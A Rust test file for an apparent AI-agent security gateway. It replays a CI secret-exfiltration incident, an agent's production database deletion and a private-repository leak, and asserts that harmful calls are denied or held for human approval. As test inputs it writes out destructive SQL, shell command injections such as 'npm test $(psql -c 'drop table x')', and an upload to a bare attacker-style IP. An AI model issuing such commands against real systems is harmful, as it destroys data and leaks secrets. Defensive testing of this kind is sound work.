//! Incidents that happened, call by call through the real gateway: the harm is stopped, and the work beside it goes on. The calls are
//! those of the corpora (`AEGIS_CORPORA`), the policies those of `conformance/incidents`.

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::interception::Secured;
use crate::mcp::server::{Server, tool};
use crate::process::{Gateway, raw, text};
use crate::upstream::Upstream;

fn policies() -> Vec<(String, String)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../conformance/incidents");
    let files = std::fs::read_dir(folder).expect("the policies").map(|entry| entry.expect("an entry").path());
    let yaml = files.filter(|path| path.extension().is_some_and(|extension| extension == "yaml"));
    let read = |path: PathBuf| {
        let name = path.file_name().expect("a name").to_string_lossy().into_owned();
        (name, std::fs::read_to_string(path).expect("text"))
    };
    yaml.map(read).collect()
}

fn gateway(config: &str) -> Gateway {
    let policies = policies();
    let policies: Vec<(&str, &str)> = policies.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    Gateway::start(config, &policies)
}

/// The steps of an incident; none where the corpora aren't there.
fn steps(id: &str) -> Vec<Value> {
    let Some(corpora) = std::env::var_os("AEGIS_CORPORA") else {
        println!("not run: AEGIS_CORPORA is not set");
        return Vec::new();
    };
    let file = PathBuf::from(corpora).join("incidents/scenarios.json");
    let text = std::fs::read_to_string(&file).unwrap_or_else(|error| panic!("{}: {error}", file.display()));
    let all: Vec<Value> = serde_json::from_str(&text).expect("JSON");
    let incident = all.into_iter().find(|incident| incident["id"] == id).expect("the incident");
    incident["steps"].as_array().expect("steps").clone()
}

/// A client of one MCP server.
struct Session<'a> {
    gateway: &'a Gateway,
    path: String,
    token: String,
    session: String,
}

impl<'a> Session<'a> {
    fn open(gateway: &'a Gateway, server: &str, token: &str) -> Self {
        let path = format!("/mcp/{server}");
        let mut this = Self { gateway, path, token: token.to_owned(), session: String::new() };
        let client = json!({"name": "c", "version": "1"});
        let params = json!({"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": client});
        let answer = this.ask("initialize", &params);
        let session =
            answer.lines().find_map(|line| line.to_lowercase().strip_prefix("mcp-session-id: ").map(str::to_owned));
        this.session = format!("Mcp-Session-Id: {}\r\n", session.unwrap_or_else(|| panic!("{answer}")));
        this
    }

    fn ask(&self, method: &str, params: &Value) -> String {
        let body = json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}).to_string();
        let Self { path, token, session, .. } = self;
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n\
             Accept: application/json, text/event-stream\r\nAuthorization: Bearer {token}\r\n{session}Content-Length: {}\r\n\r\n{body}",
            body.len()
        );
        raw(self.gateway.address("proxy"), &request)
    }

    /// What was decided about a call, and the whole answer.
    fn call(&self, tool: &str, arguments: &Value) -> (String, String) {
        let answer = self.ask("tools/call", &json!({"name": tool, "arguments": arguments}));
        let decision = answer.lines().find_map(|line| {
            let line = line.to_lowercase();
            line.strip_prefix("aegis-decision: ").map(|decision| decision.trim().to_owned())
        });
        (decision.unwrap_or_else(|| panic!("{answer}\n{}", self.gateway.log())), answer)
    }
}

/// A decision in the corpus's words.
fn in_words(decision: &str) -> &str {
    if decision == "approval_needed" { "require_approval" } else { decision }
}

#[test]
fn a_coverage_uploader_sends_its_report_and_not_the_environment() {
    let steps = steps("codecov-2021");
    if steps.is_empty() {
        return;
    }
    let (secured, tool) = (Secured::new(), Upstream::start(None));
    let front = secured.front("codecov.io", tool.address);
    let gateway = gateway(&format!(
        "interception: {{hosts: [codecov.io], upstream_ca: {}}}\n\
         upstreams: {{\"codecov.io:443\": \"{front}\", \"codecov.io:80\": \"{plain}\", \"104.248.94.23:80\": \"{plain}\"}}\n",
        secured.ca().display(),
        plain = tool.address
    ));
    let token = gateway.folder.agent("ci/coverage");
    let (ca, proxy) = (gateway.folder.ca(), gateway.address("proxy"));
    let send = |method: &str, url: &str, body: Option<&str>| {
        let mut curl = Command::new("curl");
        curl.stdin(Stdio::null()).env_remove("NO_PROXY").env_remove("no_proxy");
        curl.args(["--silent", "--show-error", "--max-time", "20", "--include"]);
        curl.args(["--proxy", &format!("http://agent:{token}@{proxy}"), "--cacert", ca.to_str().expect("text")]);
        curl.args(["--request", method, url]);
        if let Some(body) = body {
            curl.args(["--header", "Content-Type: text/plain", "--data-binary", body]);
        }
        let said = text(&curl.output().expect("curl runs"));
        // The last: that of the call, or that of the tunnel which was refused to it.
        let decision = said.lines().rev().find_map(|line| {
            let line = line.to_lowercase();
            line.strip_prefix("aegis-decision: ").map(|decision| decision.trim().to_owned())
        });
        decision.unwrap_or_else(|| panic!("{said}\n{}", gateway.log()))
    };
    for step in &steps {
        let call = &step["call"];
        let (method, url) = (call["method"].as_str().expect("a method"), call["url"].as_str().expect("a URL"));
        let decision = send(method, url, call["body"].as_str());
        assert_eq!(in_words(&decision), step["expect"].as_str().expect("an answer"), "{url}\n{}", gateway.log());
    }
    assert_eq!(
        tool.seen().matches(" /bash").count() + tool.seen().matches(" /upload/v4").count(),
        2,
        "{}",
        tool.seen()
    );
    let report = steps[1]["call"]["body"].as_str();
    assert!(tool.seen().contains(report.expect("a body")), "not a letter of the report is changed: {}", tool.seen());
    // Each of what was wrong is enough by itself.
    assert_eq!(send("POST", "http://codecov.io/upload/v4", report), "deny", "no TLS");
    assert_eq!(send("POST", "https://104.248.94.23/upload/v2", report), "deny", "no name");
    let environment = steps[2]["call"]["body"].as_str().expect("a body");
    let decision = send("POST", "https://codecov.io/upload/v4", Some(environment));
    assert!(["sanitize", "deny"].contains(&decision.as_str()), "{decision}");
    for line in environment.lines().filter(|line| line.contains("TOKEN=") || line.contains("_KEY")) {
        let (_, secret) = line.rsplit_once('=').expect("a value");
        assert!(!tool.seen().contains(secret), "a secret went out");
    }
}

/// Servers of these names with these tools, and a gateway in front of them.
fn servers(runtime: &tokio::runtime::Runtime, names: &[(&str, &[&str], &str)]) -> (Vec<Server>, Gateway) {
    let mut config = "mcp:\n".to_owned();
    let mut all = Vec::new();
    for (name, tools, more) in names {
        let tools = tools.iter().map(|name| tool(name, "does it")).collect();
        let (server, address): (Server, SocketAddr) = runtime.block_on(Server::start(tools));
        config.push_str(&format!("  - name: {name}\n    url: http://{address}/mcp\n{more}"));
        all.push(server);
    }
    config.push_str(
        "environments:\n  - {match: {tool: postgres, param: {env: prod}}, env: production}\n  \
         - {match: {tool: postgres, param: {env: dev}}, env: development}\nlimits: {hold: 1s}\n",
    );
    (all, gateway(&config))
}

#[test]
fn a_builder_reads_in_a_freeze_and_changes_nothing() {
    let steps = steps("replit-2025");
    if steps.is_empty() {
        return;
    }
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let sql = "    programs: [{argument: sql, type: sql, dialect: postgres}]\n";
    let shell = "    programs: [{tool: run, argument: cmd, type: shell}]\n";
    let (servers, gateway) =
        servers(&runtime, &[("postgres", &["query", "execute_sql"], sql), ("shell", &["run"], shell)]);
    let token = gateway.folder.agent("dev/app-builder");
    let session = |server: &str| Session::open(&gateway, server, &token);
    let (postgres, sh) = (session("postgres"), session("shell"));
    let mut allowed = 0;
    let mut check = |server: &str, tool: &str, arguments: &Value, expected: &str| {
        let of = if server == "shell" { &sh } else { &postgres };
        let (decision, answer) = of.call(tool, arguments);
        assert_eq!(in_words(&decision), expected, "{arguments}\n{answer}");
        allowed += usize::from(expected == "allow");
    };
    for step in &steps {
        let call = &step["call"];
        let text = |key: &str| call[key].as_str().expect("a text").to_owned();
        check(&text("server"), &text("tool"), &call["arguments"], step["expect"].as_str().expect("an answer"));
    }
    let prod = |sql: &str| json!({"sql": sql, "env": "prod"});
    let dev = |sql: &str| json!({"sql": sql, "env": "dev"});
    for (arguments, expected) in [
        (prod("SELECT 1; DROP TABLE executives"), "deny"),
        (prod("DO $$ BEGIN DELETE FROM executives; END $$"), "deny"),
        (prod("SELECT pg_terminate_backend(1)"), "require_approval"),
        (prod("selct 1"), "deny"),
        (json!({"sql": "DELETE FROM executives WHERE id = 1"}), "deny"),
        (dev("DELETE FROM executives"), "require_approval"),
        (dev("INSERT INTO t (a) SELECT a FROM u"), "allow"),
        (json!({"sql": "SELECT 1", "env": "dev", "sql_verbs": ["select"]}), "deny"),
    ] {
        check("postgres", "execute_sql", &arguments, expected);
    }
    check("postgres", "query", &prod("WITH a AS (SELECT * FROM t) SELECT count(*) FROM a"), "allow");
    check("postgres", "query", &prod("TRUNCATE executives"), "deny");
    for (cmd, expected) in [
        ("npm test", "allow"),
        ("npm run db:push", "deny"),
        ("npm test; psql -c 'drop table x'", "deny"),
        ("npm test $(psql -c 'drop table x')", "deny"),
        ("eval npm test", "deny"),
    ] {
        check("shell", "run", &json!({"cmd": cmd}), expected);
    }
    let reached: usize = servers.iter().map(|server| server.seen("tools/call").len()).sum();
    assert_eq!(reached, allowed, "what was allowed reached its server, and nothing else");
}

#[test]
fn an_assistant_tells_the_public_nothing_that_is_private() {
    let steps = steps("github-mcp-2025");
    if steps.is_empty() {
        return;
    }
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let tools = ["list_issues", "get_file_contents", "create_pull_request"];
    let (servers, gateway) = servers(&runtime, &[("github-mcp", &tools, "")]);
    let token = gateway.folder.agent("dev/assistant");
    let session = Session::open(&gateway, "github-mcp", &token);
    let call = |step: &Value| session.call(step["call"]["tool"].as_str().expect("a tool"), &step["call"]["arguments"]);
    let last = steps.len() - 1;
    let (decision, answer) = call(&steps[last]);
    assert_eq!(decision, "allow", "the same change, before anything private was read: {answer}");
    for step in &steps {
        let (decision, answer) = call(step);
        assert_eq!(in_words(&decision), step["expect"].as_str().expect("an answer"), "{step}\n{answer}");
        if decision == "approval_needed" {
            let pending = gateway.folder.json(&["approvals", "list", "--status", "pending"]);
            gateway.folder.json(&["approvals", "approve", pending[0]["id"].as_str().expect("an approval")]);
            assert_eq!(call(step).0, "allow", "a human said yes");
        }
    }
    let calls = servers[0].seen("tools/call");
    let changed = calls.iter().filter(|(message, _)| message["params"]["name"] == "create_pull_request").count();
    assert_eq!(changed, 1, "only the first");
}
